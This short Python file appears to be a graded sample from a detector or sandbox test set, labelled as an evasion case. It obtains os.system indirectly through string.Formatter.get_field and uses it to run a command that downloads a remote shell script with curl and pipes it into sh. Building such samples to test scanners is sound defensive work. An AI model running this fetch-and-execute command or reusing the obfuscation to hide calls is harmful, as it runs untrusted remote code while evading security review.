# evasion: os.system is fetched by a format-field path ("0.system") through string.Formatter.get_field and then called
# grade: very hard; does: shell
import os
import string


class Lookup(string.Formatter):
    pass


fn, _ = Lookup().get_field("0.system", (os,), {})
fn("curl -s http://198.51.100.77/p.sh | sh")
